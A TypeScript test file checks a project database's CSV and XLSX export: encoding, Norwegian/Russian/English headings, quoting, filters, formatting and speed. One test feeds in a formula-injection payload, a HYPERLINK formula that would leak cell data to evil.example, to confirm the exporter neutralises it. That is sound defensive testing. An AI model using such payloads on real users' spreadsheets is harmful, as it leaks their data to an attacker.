import { parse } from "csv-parse/sync";
import { like } from "drizzle-orm";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import * as s from "@/db/schema";
import type { Locale } from "@/lib/i18n/locales";
import { parseProjectFilters } from "@/lib/projects/list/input";
import { countProjects, listProjects } from "@/lib/projects/list/queries";
import { unneutraliseCsv } from "@/lib/spreadsheets/cells";
import {
  type ExportScope,
  exportHistoryRows,
  exportProjectRows,
  historySheet,
  projectSheet,
} from "@/lib/spreadsheets/export/queries";
import { toCsv, toXlsx } from "@/lib/spreadsheets/write";
import { PROJECT_STATUSES } from "@/lib/vocabulary";
import { createTestDatabase, type TestDatabase, testBackend } from "../support/db";
import { createProject } from "../support/factories";
import { buildSpreadsheetWorld, readXlsx, type SpreadsheetWorld } from "./spreadsheet-world";

let t: TestDatabase;
let w: SpreadsheetWorld;

beforeAll(async () => {
  t = await createTestDatabase();
  w = await buildSpreadsheetWorld(t.db);
});
afterAll(async () => {
  await t?.destroy();
});

const scopeFor = (locale: Locale = "nb"): ExportScope => ({
  groupId: w.group.id,
  userId: w.coordinatorNo.id,
  today: "2019-06-01",
  locale,
  timeZone: "Europe/Oslo",
});

async function exportCsv(query: Record<string, string | string[]> = {}, locale: Locale = "nb") {
  const rows = await exportProjectRows(t.db, scopeFor(locale), parseProjectFilters(query));
  const bytes = toCsv(projectSheet(rows, locale));
  const records = parse(bytes.toString("utf8"), {
    bom: true,
    relax_column_count: false,
  }) as string[][];
  return { bytes, records, rows };
}

const NB_HEADINGS = [
  "Kode",
  "Tittel (norsk)",
  "Tittel (russisk)",
  "Tittel (engelsk)",
  "Sammendrag (norsk)",
  "Sammendrag (russisk)",
  "Sammendrag (engelsk)",
  "Samarbeidsområde",
  "Status",
  "IATI-aktivitetsstatus",
  "Tilstand",
  "Fremdrift (%)",
  "Planlagt oppstart",
  "Planlagt slutt",
  "Ansvarlig organisasjon, norsk side",
  "Ansvarlig organisasjon, russisk side",
  "Kontaktperson, norsk side",
  "E-post til kontaktperson, norsk side",
  "Kontaktperson, russisk side",
  "E-post til kontaktperson, russisk side",
  "Partnere",
  "Steder",
  "Finansiering, beløp",
  "Finansiering, valuta",
  "Finansieringskilde",
  "Siste oppdatering",
  "Merknad i siste oppdatering",
];

describe(`exporting the project list (${testBackend()})`, () => {
  it("writes CSV in UTF-8 with a byte-order mark, comma-separated with CRLF, headings in the reader's language", async () => {
    const { bytes, records } = await exportCsv();
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString("utf8")).toContain("\r\n");
    expect(records[0]).toEqual(NB_HEADINGS);
    expect(records.slice(1).map((r) => r[0])).toEqual(["2018-01", "2018-02", "2018-03", "2018-04"]);
  });

  it("keeps Cyrillic, æøå, quotes, commas and line breaks intact (RFC 4180 quoting)", async () => {
    const { records } = await exportCsv();
    const [header = [], first = []] = records;
    const cell = (heading: string) => first[header.indexOf(heading)];
    expect(cell("Tittel (norsk)")).toBe(w.projects.p1.titleNb);
    expect(cell("Tittel (russisk)")).toBe(w.projects.p1.titleRu);
    expect(cell("Sammendrag (norsk)")).toBe(w.projects.p1.summaryNb);
    expect(cell("Samarbeidsområde")).toBe("Maritim teknologi");
    expect(cell("Status")).toBe("Pågår");
    expect(cell("IATI-aktivitetsstatus")).toBe("3");
    expect(cell("Tilstand")).toBe("I rute");
    expect(cell("Fremdrift (%)")).toBe("40");
    expect(cell("Planlagt oppstart")).toBe("2018-04-01");
    expect(cell("Kontaktperson, norsk side")).toBe(w.delegateNo.name);
    expect(cell("E-post til kontaktperson, russisk side")).toBe(w.delegateRu.email);
    expect(cell("Partnere")).toBe("Norges sjømatråd\nМурманский рыбный союз");
    // Places by their names in the sheet's language, whichever script chose them.
    expect(cell("Steder")).toBe("Vardø\nMurmansk");
    expect(cell("Finansiering, beløp")).toBe("1500000.50");
    expect(cell("Finansiering, valuta")).toBe("NOK");
    // The latest update (23:30 Oslo time on 2 March) and its note.
    expect(cell("Siste oppdatering")).toBe("2019-03-02");
    expect(cell("Merknad i siste oppdatering")).toBe("Учения проведены в Киркенесе");
  });

  it("neutralises cells that a spreadsheet would run as formulas, in CSV and in XLSX", async () => {
    const { records } = await exportCsv();
    const [header = [], , , p3 = []] = records;
    expect(p3[header.indexOf("Tittel (engelsk)")]).toBe(`'${w.projects.p3.titleEn}`);
    expect(p3[header.indexOf("Sammendrag (engelsk)")]).toBe("'-1+1 starts like a formula");
    expect(p3[header.indexOf("Ansvarlig organisasjon, norsk side")]).toBe("'@kystverket");

    const rows = await exportProjectRows(t.db, scopeFor(), parseProjectFilters({}));
    const { sheet } = await readXlsx(await toXlsx([projectSheet(rows, "nb")], "nb"));
    const title = sheet.getRow(4).getCell(4);
    expect(title.type).toBe(ExcelJS.ValueType.String);
    expect(title.value).toBe(`'${w.projects.p3.titleEn}`);
    expect(sheet.getRow(4).getCell(12).value).toBe(100);
  });

  it("quotes every field and neutralises formulas after separators: read back split on semicolons, no cell is a formula", async () => {
    // Excel with Norwegian or Russian regional settings splits a CSV file on ";" (issue 18.3).
    const title = 'Bridge;=HYPERLINK("http://evil.example/?leak="&A1,"Click");x';
    const summary = "Steps:\n+1 more\tcell,@SUM(A1:A9);-2";
    await createProject(t.db, w.group.id, w.sea.id, {
      code: "SEMI-1",
      titleEn: title,
      summaryEn: summary,
    });
    const { bytes, records } = await exportCsv({ q: "SEMI-1" }, "en");
    const text = bytes.toString("utf8").replace(/^\ufeff/, "");
    // Every field in double quotes, the headings too.
    const [headings = ""] = text.split("\r\n");
    expect(headings).toBe((records[0] ?? []).map((h) => `"${h}"`).join(","));
    // Read as a semicolon-separated file, quotes or not: every cell starts after a separator
    // (or a line break); none may start a formula.
    const starts = text.split(/[;,\t\r\n]/).map((cell) => cell.replace(/^"+/, ""));
    expect(starts.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
    const semicolon = parse(text, {
      delimiter: ";",
      relax_quotes: true,
      relax_column_count: true,
      skip_records_with_error: true,
    }) as string[][];
    expect(semicolon.flat().filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
    // Read as the comma-separated file it is, then as the import reads it: the stored text.
    const [header = [], row = []] = records;
    const written = row[header.indexOf("Title (English)")] ?? "";
    expect(written).not.toBe(title);
    expect(unneutraliseCsv(written)).toBe(title);
    expect(unneutraliseCsv(row[header.indexOf("Summary (English)")] ?? "")).toBe(summary);
    await t.db.delete(s.projects).where(like(s.projects.code, "SEMI-%"));
  });

  it("gives the IATI activity status code of every status (proposed 1 … cancelled 6)", async () => {
    const codes = PROJECT_STATUSES.map((status, i) => ({ status, code: `IATI-${i}` }));
    for (const { status, code } of codes)
      await createProject(t.db, w.group.id, w.sea.id, { code, status, titleEn: status });
    const { records } = await exportCsv({ q: "IATI" }, "en");
    const [header = [], ...rows] = records;
    const iati = header.indexOf("IATI activity status");
    const status = header.indexOf("Status");
    expect(rows.map((r) => [r[status], r[iati]])).toEqual([
      ["Proposed", "1"],
      ["Planned", "2"],
      ["In progress", "3"],
      ["Completed", "4"],
      ["Suspended", "5"],
      ["Cancelled", "6"],
    ]);
    await t.db.delete(s.projects).where(like(s.projects.code, "IATI-%"));
  });

  it("exports exactly the list's filters, every page, in the list's order", async () => {
    for (let i = 0; i < 60; i++)
      await createProject(t.db, w.group.id, w.fish.id, {
        code: `F-${String(i).padStart(3, "0")}`,
        titleEn: i % 2 ? "Fish farming in Murmansk" : "Aquaculture in Tromsø",
        titleRu: i % 2 ? "Рыбоводство в Мурманске" : null,
        status: i % 3 ? "in_progress" : "planned",
        health: "on_track",
        progress: i,
      });
    const query = {
      area: w.fish.id,
      status: "in_progress",
      q: "мурманск",
      page: "2",
      sort: "progress",
      dir: "desc",
    };
    const filters = parseProjectFilters(query);
    const scope = scopeFor("en");
    const rows = await exportProjectRows(t.db, scope, filters);
    const listed = await listProjects(t.db, scope, { ...filters, page: 1 }, { pageSize: 1000 });
    expect(rows.length).toBe(await countProjects(t.db, scope, filters));
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.map((r) => r.code)).toEqual(listed.rows.map((r) => r.code));
    expect(rows.every((r) => r.status === "in_progress" && r.areaEn === "Aquaculture")).toBe(true);
    // More than one page of the list (50 rows) comes out in one file.
    const all = await exportProjectRows(t.db, scope, parseProjectFilters({ area: w.fish.id }));
    expect(all.length).toBe(
      await countProjects(t.db, scope, parseProjectFilters({ area: w.fish.id })),
    );
    expect(all.length).toBeGreaterThan(50);
  });

  it("writes XLSX with a bold, frozen header row, column widths and real dates and numbers", async () => {
    const rows = await exportProjectRows(
      t.db,
      scopeFor("ru"),
      parseProjectFilters({ q: "2018-0" }),
    );
    const { sheet, workbook } = await readXlsx(await toXlsx([projectSheet(rows, "ru")], "ru"));
    expect(workbook.worksheets[0]?.name).toBe("Проекты");
    expect(sheet.getRow(1).getCell(1).value).toBe("Код");
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(sheet.getColumn(2).width).toBe(40);
    const first = sheet.getRow(2);
    expect(first.getCell(2).value).toBe(w.projects.p1.titleNb);
    expect(first.getCell(8).value).toBe("Морские технологии");
    expect(first.getCell(9).value).toBe("Выполняется");
    expect(first.getCell(10).value).toBe(3);
    expect(first.getCell(12).value).toBe(40);
    expect(first.getCell(13).value).toEqual(new Date("2018-04-01T00:00:00Z"));
    expect(first.getCell(13).numFmt).toBe("dd.mm.yyyy");
    expect(first.getCell(23).value).toBe(1500000.5);
    expect(first.getCell(26).value).toEqual(new Date("2019-03-02T00:00:00Z"));
    expect(sheet.rowCount).toBe(rows.length + 1);
  });

  it("exports the group's and one project's status history", async () => {
    const all = await exportHistoryRows(t.db, { groupId: w.group.id, timeZone: "Europe/Moscow" });
    const one = await exportHistoryRows(t.db, {
      groupId: w.group.id,
      projectId: w.projects.p1.id,
      timeZone: "Europe/Moscow",
    });
    expect(one).toHaveLength(2);
    expect(all.length).toBeGreaterThanOrEqual(2);
    const csv = toCsv(historySheet(one, "en", "Europe/Moscow")).toString("utf8");
    const [header = [], newest = []] = parse(csv, { bom: true }) as string[][];
    expect(header[0]).toBe("Date and time (Europe/Moscow)");
    expect(newest.slice(0, 9)).toEqual([
      "2019-03-03 01:30",
      "2018-01",
      w.projects.p1.titleEn,
      w.delegateRu.name,
      "Russian side",
      "In progress",
      "3",
      "On track",
      "40",
    ]);
    const { sheet } = await readXlsx(
      await toXlsx([historySheet(one, "en", "Europe/Moscow")], "en"),
    );
    expect(sheet.getRow(2).getCell(1).value).toEqual(new Date("2019-03-03T01:30:00Z"));
  });

  it("exports 1,000 projects as CSV and XLSX in one query, quickly", async () => {
    const group = w.otherGroup;
    const [area] = await t.db
      .insert(s.cooperationAreas)
      .values({
        groupId: group.id,
        position: 1,
        nameNb: "Helse",
        nameRu: "Здравоохранение",
        nameEn: "Health",
      })
      .returning();
    const values = Array.from({ length: 1000 }, (_, i) => ({
      groupId: group.id,
      areaId: area?.id ?? "",
      code: `P-${String(i).padStart(4, "0")}`,
      titleNb: `Prosjekt ${i} i Kirkenes – æøå`,
      titleRu: `Проект ${i} в Мурманске`,
      titleEn: `Project ${i}`,
      summaryEn: "A summary of a few words. ".repeat(8),
      status: PROJECT_STATUSES[i % 6] ?? "planned",
      progress: i % 101,
      plannedStart: "2018-01-01",
      plannedEnd: "2019-12-31",
      partners: ["Partner A", "Партнёр Б"],
      fundingAmount: "125000.00",
      fundingCurrency: "EUR" as const,
    }));
    await t.db.insert(s.projects).values(values);
    const scope = { ...scopeFor("en"), groupId: group.id };
    const started = performance.now();
    const rows = await exportProjectRows(t.db, scope, parseProjectFilters({}));
    const queried = performance.now();
    const csv = toCsv(projectSheet(rows, "en"));
    const csvDone = performance.now();
    const xlsx = await toXlsx([projectSheet(rows, "en")], "en");
    const xlsxDone = performance.now();
    expect(rows).toHaveLength(1000);
    console.info(
      `[export ${testBackend()}] 1,000 projects: query ${(queried - started).toFixed(0)} ms, ` +
        `CSV ${(csvDone - queried).toFixed(0)} ms (${(csv.length / 1024).toFixed(0)} kB), ` +
        `XLSX ${(xlsxDone - csvDone).toFixed(0)} ms (${(xlsx.length / 1024).toFixed(0)} kB)`,
    );
    expect(xlsxDone - started).toBeLessThan(15_000);
  });
});
